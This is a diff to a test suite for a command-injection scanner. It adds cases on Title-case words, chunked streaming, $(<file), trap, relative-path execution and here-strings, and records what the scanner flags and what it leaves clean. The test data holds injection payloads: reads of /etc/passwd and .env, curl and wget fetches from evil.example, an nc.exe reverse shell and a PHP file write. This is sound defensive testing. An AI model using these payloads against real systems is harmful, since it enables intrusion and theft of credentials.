@@ -818,8 +818,8 @@ describe('cmdi: a shell named with .exe', () => {
 
 describe('cmdi: type unions and brackets after a pipe', () => {
   // true/false after a single '|' is a type union or a list of values (MemoizeMap | false;), and a ']' that no '['
-  // opened leaves a word literal (| Date]); "|| true", "; true", [c]at, ca[t] still count
-  it.each([['x || true', 'cmdi.chained-command'], ['x; true', 'cmdi.chained-command'], ['a | Date', 'cmdi.chained-command'],
+  // opened leaves a word literal (| Date]); "|| true", "; true", "a | date", [c]at, ca[t] still count ("a | Date" alone: see session 21)
+  it.each([['x || true', 'cmdi.chained-command'], ['x; true', 'cmdi.chained-command'], ['a | date', 'cmdi.chained-command'],
     ['ca[t] /etc/x', 'cmdi.obfuscated-command'], [';c[a]t /tmp/x', 'cmdi.chained-command'], [';[w]hoami', 'cmdi.chained-command'],
     [';./run.sh', 'cmdi.chained-command'], ['x `whoami` y', 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
     expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
@@ -1677,4 +1677,75 @@ describe('cmdi session 20 (rtc23): a Windows absolute or UNC path after & | newl
   // a document, a folder or a path mentioned after ';' or in prose; C:\Program Files\x.exe unquoted runs C:\Program (split at the space)
   it.each(['Docs & C:\\Users\\me\\notes.txt', 'Saved to: C:\\Temp\\x.exe', 'x&c:\\temp', 'Paths & c:\\windows\\system32',
     'x&\\\\fileserver\\shared\\Finance', 'x&C:\\Program Files\\app.exe', 'x;c:\\tools\\app.exe'])('%s stays clean', expectNoCmdi);
+});
+
+// Session 21 (red team rtc23, false positives): a command word on Unix is a lower-case file name, so a Title-case word
+// ("Route", "Cat", "History") runs nothing there; where case is folded (cmd.exe, PowerShell, a macOS file system) what
+// follows the word still decides. A Title-case command opening a line after a newline is judged as a value opening with
+// it; a Title-case English-word command alone before a separator or the end is a list's item or a menu's entry.
+describe('cmdi session 21 (rtc23): a line of text that opens with a Title-case command word', () => {
+  it.each(['Farm Shop\nRoute 9\nSpringfield, IL', 'Unit 4\nExit 12 Business Park\nLeeds', 'Delivery notes:\nEcho Park entrance, gate code 1234',
+    'Hi,\nCut 2 pieces of 40cm please\nThanks', 'Shopping list:\nCat food\nMilk', 'Agenda:\nStart 9am\nLunch 12pm',
+    'Reminder:\nTouch up paint in hallway', 'Weekend plans:\nCurl up with a book', 'Notes\nDate 5 May\nTime 10:00',
+    'Hi team,\nPing me when the build is done', 'Dear Sam,\r\nKill the lights when you leave', 'Menu:\n Sort by price'])('%s stays clean', expectNoCmdi);
+  // (the mail verbs and IMAP tags: a line of text, not a protocol line)
+  it.each(['My top 3:\nTop Gun\nJaws', 'Contact\nMail to: info@example.com', 'Menu\nWait list open', 'Report\nData attached\nBye'])('%s stays clean', expectNoCmdi);
+  // lower-case, upper-case or escaped it is read as before; so is a Title-case word given a path, an option or a host
+  it.each(['x\nid', 'x\ncat /etc/passwd', 'x\ncat food', 'x\nsleep 5', 'x\nCat /etc/passwd', 'x\nPing -c 3 evil.example',
+    'x\nCurl http://evil.example/x.sh', 'x\nCAT food', 'x%0a%43at food', 'x\\nCat /etc/passwd', 'x\nTee /var/www/x.php',
+    'x\nPowershell -c whoami', 'x\r\nDATA\r\n', 'x\r\nMAIL FROM:<a@evil.example>', 'x\r\nTOP 1 10\r\n'])('%s is a command', expectCmdi);
+  // a dotted name after it is a host or a file, also after a Title-case word (a case-folding shell or file system runs it)
+  it.each(['x\nNslookup evil.example', 'x\nCat secret.txt', 'x\nWget evil.example/x -O /tmp/x', 'x\nHost evil.example'])('%s is a command', expectCmdi);
+  it.each(['Hi\nCat pictures. Thanks', 'Hi\nTouch base. Bye', 'Notes\nDate 5.5.2024'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 21: the raw case a word is judged by survives chunking (rawKeep keeps the 32 raw bytes before a chunk)', () => {
+  // (the last one past the scanner's 3,584-byte chunk: the word is lexed in the second chunk)
+  it.each(['Hi,\nCut 2 pieces of 40cm please', 'About Us | History', 'Menu\nWait list open', 'x\nCat /etc/passwd', 'x\nCat secret.txt',
+    `${'y'.repeat(3590)}\nRoute 9`])('value %#: byte-at-a-time and 3-byte pushes give the whole verdict', (input) => {
+    const whole = ruleIds(d.scan(input, { context: 'form' }));
+    for (const step of [1, 3]) {
+      const s = d.createStream({ context: 'form' });
+      for (let i = 0; i < input.length; i += step) s.push(input.slice(i, i + step));
+      expect(ruleIds(s.finish())).toEqual(whole);
+    }
+  });
+});
+
+describe('cmdi session 21 (rtc23): a Title-case English-word command alone before a separator or the end', () => {
+  it.each(['About Us | History', 'Pricing | Free', 'Docs | Source', 'Reviews | Top', 'Team | Who', 'Account | Export', 'File | Open',
+    'Edit | Find', 'View | Source', 'Time | Date', 'Import | Export', 'Less | More', 'Paste | Format', 'Home | Blog | History',
+    'Cat; Dog; Fish', 'Tee; Shirts; Hats', 'Order: Head & Shoulders; Tail & Co.', 'Fruit; Cheese; Bread | Date'])('%s stays clean', expectNoCmdi);
+  // (alone, source and open name nothing to read or open: lower-case too)
+  it.each(['docs | source', 'file | open', 'x;source', 'x | open'])('%s stays clean', expectNoCmdi);
+  // given an argument, lower-case, or a strong command a case-folding shell runs alone (x|Whoami), it still counts
+  it.each(['x;Cat /etc/passwd', 'x|Cat /etc/passwd', 'x|id', 'x;ls -la', 'x | date', 'x;date', 'x|Whoami', 'x;Hostname',
+    'x; Date > /tmp/x', 'x|Sort -r', 'x;Find / -name x', 'x|source /tmp/x.sh', 'x;open /etc/passwd', ';history', ';top', 'tee; id', 'x | history'])('%s is a command', expectCmdi);
+});
+
+describe('cmdi session 21 (rtc23): $(<file) substitutes the file it reads (bash), as $(cat file) does', () => {
+  it.each(['$(<secret.txt)', '$(< secret.txt)', '"$(<secret.txt)"', 'x;$(<secret.txt)', '$(<.env)', '$(<app.py)', '$(<.env).evil.example',
+    '$(<~/x)', '$(<$HOME/x)', 'x;$(</tmp/x)', 'x $( < /etc/passwd )', "$(<'secret.txt')"])('%s is a command', expectCmdi);
+  // (an empty one runs nothing; a '<' after a command word is its input, judged with the command; markup and jQuery's $('<div>'))
+  it.each(['$(<)', "$('<div>')", '$("<b>x</b>")', 'a $ (<b>) c', 'x $(x) < y'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 21 (rtc23): trap runs its first operand, quoted or not, at the signals named after it', () => {
+  it.each(['x;trap id EXIT', 'x;trap id 0', 'x; trap id INT', 'x|trap whoami SIGTERM', 'x\ntrap id ERR', 'trap id EXIT'])('%s is a command', expectCmdi);
+  // (a word that names no signal after it, or trap out of command position, is prose)
+  it.each(['x;trap id cards', 'Tourist trap; Avoid it', 'a trap date 0', 'Mouse trap, cat 5', 'x;trap door 0'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 21 (rtc23): a file run by a relative path (the dot builtin, ./ .\\, cmd.exe after & | newline)', () => {
+  it.each(['x;. ./cmdfile', 'x;. cmdfile', 'x;. uploads/a.png', 'x;. .env', 'x|. ../x', 'x;. ~/x', 'x&.\\a.bat', 'x&./run.sh', 'x|.\\a.bat',
+    'x&x.bat', 'x&uploads\\a.exe', 'x & setup.exe /S', 'x|a.exe', 'x\nuploads\\a.exe', 'x&tools\\nc.exe -e cmd 10.0.0.1 4444', 'x&a.cmd&y'])('%s is a command', expectCmdi);
+  // a domain after '&' (.com is a program's extension too), a document, a folder, prose after ". " on a new line
+  it.each(['Barnes&Noble.com', 'AT&T.com', 'H&M.com/shop', 'x&Readme.txt', 'R&D\\Docs', 'Tom & Jerry', 'x|foo.bar', 'Hello\n. Next item',
+    'Q&A. Then', 'x&. ./y', 'Wait... then; done', 'End.;. '])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 21 (rtc23): shell syntax only a command line has: a here-string, an array element as the command', () => {
+  it.each(['tr a-y b-z<<<hc', 'x;$(tr a-y b-z<<<hc)', 'x;foo<<<"id"', "x|base64 -d<<<'aWQ='", 'x;a=(id);${a[0]}', 'x;${a[0]}', 'x|${cmds[@]}'])('%s is a command', expectCmdi);
+  // (a '<<<' with a space or a fourth '<' after it: navigation, a merge conflict, Haskell's operator; a JavaScript template's ${a[0]})
+  it.each(['<<< Back | Next >>>', '<<<<<<< HEAD', 'f <<< g', 'a<<b', '${items[0]}', 'Total: ${a[0]} items', 'x << EOF'])('%s stays clean', expectNoCmdi);
 });
